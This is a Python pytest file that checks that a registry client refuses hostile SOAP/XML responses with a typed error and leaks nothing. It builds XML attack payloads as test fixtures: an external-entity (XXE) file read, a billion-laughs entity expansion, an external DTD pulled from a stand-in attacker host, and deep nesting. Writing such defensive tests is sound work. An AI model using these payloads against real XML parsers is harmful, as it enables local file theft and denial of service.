"""Hostile XML in the registry's answer is refused before it can do harm, as a typed error.

Each answer is served by a real HTTP app; the test checks the error and that nothing the
hostile document points at (a local file, an entity expansion) reaches the error text.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from kpr_gateway.registry import RegistryResponseError
from tests.unit.registry.servers import fixed_app
from tests.unit.registry.support import client_of

SOAP = "application/soap+xml; charset=utf-8"
_ENVELOPE = (
    '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>'
    '<GetCommunicationPartyDetailsResponse xmlns="http://register.nhn.no/CommunicationParty">'
    "<GetCommunicationPartyDetailsResult><HerId>70001</HerId><Name>{name}</Name>"
    "</GetCommunicationPartyDetailsResult></GetCommunicationPartyDetailsResponse>"
    "</s:Body></s:Envelope>"
)


def xxe(secret: Path) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
        + _ENVELOPE.format(name="&leak;")
    ).encode()


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return (
        f"<!DOCTYPE s:Envelope [{''.join(entities)}]>" + _ENVELOPE.format(name="&lol9;")
    ).encode()


def external_dtd() -> bytes:
    return (
        '<!DOCTYPE s:Envelope SYSTEM "http://attacker.invalid/evil.dtd">'
        + _ENVELOPE.format(name="x")
    ).encode()


def utf16_doctype() -> bytes:
    return ('<!DOCTYPE a [<!ENTITY e "boom">]>' + _ENVELOPE.format(name="&e;")).encode("utf-16")


def too_deep() -> bytes:
    return _ENVELOPE.format(name="<a>" * 300 + "</a>" * 300).encode()


@pytest.mark.parametrize("status", [200, 500])
async def test_external_entity_is_refused(tmp_path: Path, status: int) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    async with client_of(fixed_app(xxe(secret), status=status, media_type=SOAP)) as client:
        with pytest.raises(RegistryResponseError, match="unsafe XML") as caught:
            await client.get_communication_party_details("70001")
    assert "TOP-SECRET" not in str(caught.value)


@pytest.mark.parametrize(
    "document",
    [billion_laughs(), external_dtd(), utf16_doctype(), too_deep()],
    ids=["billion-laughs", "external-dtd", "utf16-doctype", "too-deep"],
)
async def test_hostile_documents_are_refused(document: bytes) -> None:
    async with client_of(fixed_app(document, media_type=SOAP)) as client:
        with pytest.raises(RegistryResponseError, match="unsafe XML") as caught:
            await client.get_communication_party_details("70001")
    assert "lol" not in str(caught.value)
